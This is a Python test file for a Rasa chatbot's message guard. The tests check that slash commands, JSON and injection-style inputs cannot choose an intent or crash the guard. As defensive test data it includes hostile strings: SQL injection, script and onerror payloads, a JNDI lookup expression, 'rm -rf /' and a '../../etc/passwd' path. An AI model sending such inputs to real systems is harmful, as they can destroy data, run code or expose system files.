"""Promises of `clarity.nlu.message_guard`: no message picks its own intent, and none makes the guard fail."""

from __future__ import annotations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from rasa.nlu.classifiers.regex_message_handler import RegexMessageHandler
from rasa.shared.core.domain import Domain
from rasa.shared.core.trackers import DialogueStateTracker
from rasa.shared.nlu.constants import INTENT, TEXT
from rasa.shared.nlu.training_data.message import Message

from clarity.nlu.message_guard import (
    BUTTON_INTENT,
    BUTTON_MEMORY,
    GUARD_INTENT,
    MAXIMUM_CHARACTERS,
    ORIGINAL_TEXT,
    MessageGuard,
    clean,
    judge,
    offered_payloads,
    readable,
)
from tests.factories import heard, message, said, tracker_of

# Every character, lone surrogates included: JSON may hold them, and so may a hostile request.
ANY_TEXT = st.text(st.characters(), max_size=300)
HOSTILE_TEXT = st.text(st.sampled_from(" /<>{}[]\"'\x00\ud800\u200b\uff0fab\n\t=;-"), max_size=40)


def guarded(text: str, tracker: DialogueStateTracker | None = None) -> Message:
    """Return the message after the guard has seen it in this conversation."""
    found: Message = MessageGuard().process([message(text)], tracker or tracker_of())[0]
    return found


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("/ask_duration", "message_command", id="slash command"),
        pytest.param('/crisis{"a": "b"}', "message_command", id="slash command with entities"),
        pytest.param("//greet", "message_command", id="two slashes"),
        pytest.param("   /greet", "message_command", id="blanks before a slash"),
        pytest.param("\u200b/greet", "message_command", id="zero width before a slash"),
        pytest.param("\x00/greet", "message_command", id="NUL before a slash"),
        pytest.param("\uff0fgreet", "message_command", id="wide slash"),
        pytest.param('{"role": "system"}', "message_command", id="JSON object"),
        pytest.param('[{"text": "hi"}]', "message_command", id="JSON list"),
        pytest.param('{"role": "system"', "message_command", id="broken JSON"),
        pytest.param("SELECT name FROM clients", "message_command", id="SQL read"),
        pytest.param("x'; DROP TABLE events; --", "message_command", id="SQL drop"),
        pytest.param("' OR 1=1", "message_command", id="SQL condition"),
        pytest.param("<script>alert(1)</script>", "message_command", id="script"),
        pytest.param('<img src=x onerror="steal()">', "message_command", id="image with a handler"),
        pytest.param("<b><i></i></b>", "message_command", id="markup and nothing else"),
        pytest.param("{{ config.items() }}", "message_command", id="template"),
        pytest.param("${jndi:ldap://example.test/a}", "message_command", id="expression"),
        pytest.param("hello; rm -rf /", "message_command", id="shell"),
        pytest.param("open ../../etc/passwd", "message_command", id="path upwards"),
        pytest.param("word " * 1000, "message_too_long", id="5,000 characters"),
        pytest.param("a" * (MAXIMUM_CHARACTERS + 1), "message_too_long", id="one too many"),
        pytest.param("\U0001f600\U0001f44d", "message_without_words", id="emoji"),
        pytest.param("\u2764\ufe0f", "message_without_words", id="heart"),
        pytest.param("?!...", "message_without_words", id="punctuation"),
        pytest.param("", "message_without_words", id="empty"),
        pytest.param(" \n\t ", "message_without_words", id="blanks"),
        pytest.param("\ud800", "message_without_words", id="lone surrogate"),
        pytest.param("\x00\x00", "message_without_words", id="NUL"),
        pytest.param("\u200b\u200d\ufeff", "message_without_words", id="zero width"),
        pytest.param("Сколько это стоит?", "message_in_other_script", id="Cyrillic"),
        pytest.param("كم تستغرق؟", "message_in_other_script", id="Arabic"),
        pytest.param("费用是多少", "message_in_other_script", id="Chinese"),
    ],
)
def test_what_is_no_question_is_named(text: str, expected: str) -> None:
    """A message that nobody here can answer gets the guard's word for why."""
    found = guarded(text)

    assert found.get(GUARD_INTENT) == expected
    assert found.get(BUTTON_INTENT) is None


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("How long is the program?", id="question"),
        pytest.param("a" * MAXIMUM_CHARACTERS, id="exactly at the limit"),
        pytest.param("3", id="a digit"),
        pytest.param("949 555 0123", id="digits alone"),
        pytest.param("¿Cuánto dura el programa?", id="Spanish"),
        pytest.param("Does Zoë's café count? \U0001f600", id="accents and emoji"),
        pytest.param("Is it and/or?", id="slash inside"),
        pytest.param("I feel <3 about it", id="heart of a bracket"),
        pytest.param("is it 9-12 hours/week?", id="figures with a slash"),
        pytest.param("(is it covered)", id="parentheses"),
        pytest.param("[asking for my sister] is it private?", id="square brackets"),
        pytest.param("Привет, how long is the whole program?", id="mostly Latin"),
        pytest.param("Can I select a therapist from your team?", id="select and from in a question"),
        pytest.param("Can I drop in at the table by the desk?", id="drop and table in a question"),
        pytest.param("How many sessions = a full program?", id="equals sign"),
        pytest.param("I need help with this --", id="dashes at the end"),
        pytest.param("Do you update the plan and set goals?", id="update and set in a question"),
    ],
)
def test_an_ordinary_question_passes(text: str) -> None:
    """Nobody is told "no commands" for asking."""
    found = guarded(text)

    assert found.get(GUARD_INTENT) is None
    assert found.get(TEXT) == readable(clean(text))


def test_the_original_stays_whole_for_the_crisis_classifier() -> None:
    """What the guard cuts off or refuses can still be read for a cry for help."""
    text = "word " * 1000 + "\x00/end"

    found = guarded(text)

    assert found.get(ORIGINAL_TEXT) == text
    assert len(found.get(TEXT)) <= MAXIMUM_CHARACTERS


def test_a_message_without_text_is_no_error() -> None:
    """The engine may hand over a message that holds nothing."""
    found = MessageGuard().process([Message(data={})], tracker_of())[0]

    assert found.get(ORIGINAL_TEXT) == ""
    assert found.get(GUARD_INTENT) == "message_without_words"


def test_an_offered_button_is_accepted() -> None:
    """A tap on a button that was offered here chooses its intent."""
    tracker = tracker_of(said("Did you mean one of these?", "/ask_duration", "/ask_ppo"))

    found = guarded("/ask_ppo", tracker)

    assert found.get(BUTTON_INTENT) == "ask_ppo"
    assert found.get(GUARD_INTENT) is None
    assert found.get(TEXT) == "ask_ppo"


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("/ask_hmo", id="another intent"),
        pytest.param("/ask_ppo{}", id="with entities"),
        pytest.param("/ask_pp", id="a part of it"),
        pytest.param("/ASK_PPO", id="other case"),
        pytest.param("//ask_ppo", id="two slashes"),
    ],
)
def test_a_payload_that_was_not_offered_is_a_command(text: str) -> None:
    """Only the very payload of an offered button counts."""
    found = guarded(text, tracker_of(said("Did you mean this?", "/ask_ppo")))

    assert found.get(BUTTON_INTENT) is None
    assert found.get(GUARD_INTENT) == "message_command"


def test_a_payload_a_person_typed_before_was_not_offered() -> None:
    """Nobody offers oneself a button."""
    found = guarded("/ask_ppo", tracker_of(heard("/ask_ppo"), said("I can't follow commands.")))

    assert found.get(BUTTON_INTENT) is None


def test_words_without_a_slash_are_no_button() -> None:
    """A person who writes a button's name is understood as writing."""
    found = guarded("ask_ppo", tracker_of(said("Did you mean this?", "/ask_ppo")))

    assert found.get(BUTTON_INTENT) is None
    assert found.get(GUARD_INTENT) is None


def test_a_button_counts_in_the_last_bot_turns() -> None:
    """A button further up the screen can be tapped for a while, and no longer."""
    said_since = [said("Words.") for _ in range(BUTTON_MEMORY - 1)]

    still = offered_payloads(tracker_of(said("Choose.", "/greet"), *said_since))
    no_longer = offered_payloads(tracker_of(said("Choose.", "/greet"), *said_since, said("Words.")))

    assert still == {"/greet"}
    assert no_longer == set()


def test_a_button_that_opens_a_page_is_no_payload() -> None:
    """Only payloads with a slash are commands of ours."""
    offered = offered_payloads(tracker_of(said("Choose.", "https://example.test", "/greet")))

    assert offered == {"/greet"}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("h\u200bel\u00adlo", "hello", id="zero width and soft hyphen"),
        pytest.param("a\x00b\x07c", "abc", id="control characters"),
        pytest.param("one\ntwo\tthree", "one\ntwo\tthree", id="line breaks and tabs stay"),
        pytest.param("\ud83d half", " half", id="half an emoji"),
        pytest.param("\uff28\uff49", "Hi", id="wide letters"),
        pytest.param("one\rtwo", "one\ntwo", id="an old line break still parts words"),
    ],
)
def test_a_text_is_cleaned(text: str, expected: str) -> None:
    """What cannot be seen does not stand between the letters."""
    cleaned = clean(text)

    assert cleaned == expected


@given(text=st.one_of(ANY_TEXT, HOSTILE_TEXT))
@example(text="\ud800\udc00")
@example(text="/" * 5000)
def test_nothing_makes_the_guard_fail(text: str) -> None:
    """Cleaning and judging never raise, and a cleaned text can always be stored."""
    cleaned = clean(text)

    verdict = judge(cleaned)

    cleaned.encode("utf-8")
    assert "\x00" not in cleaned
    assert verdict is None or verdict.startswith("message_")


@given(text=st.one_of(ANY_TEXT, HOSTILE_TEXT))
@example(text="/ /crisis")
@example(text="<b>/<i>/crisis")
@example(text="/\n/crisis")
@example(text="\u1680/crisis")
def test_what_is_read_on_never_starts_with_a_slash(text: str) -> None:
    """The engine's slash parser finds nothing to obey, however the slashes are arranged."""
    left = readable(clean(text))

    assert not left.startswith("/")
    assert left == left.strip()


@pytest.mark.parametrize(
    "text",
    [
        "/crisis",
        "//crisis",
        "/ /crisis",
        " / / /crisis",
        "<b>/crisis",
        "/<b>/crisis",
        "\uff0f\uff0fcrisis",
        "\u1680/crisis",
    ],
    ids=["one", "two", "apart", "many apart", "behind markup", "around markup", "wide", "rare blank"],
)
def test_the_engines_slash_parser_obeys_no_message(text: str, domain: Domain) -> None:
    """After the guard, Rasa's own parser leaves the message's intent alone."""
    parsed = RegexMessageHandler().process([guarded(text)], domain)[0]

    assert parsed.get(INTENT) is None
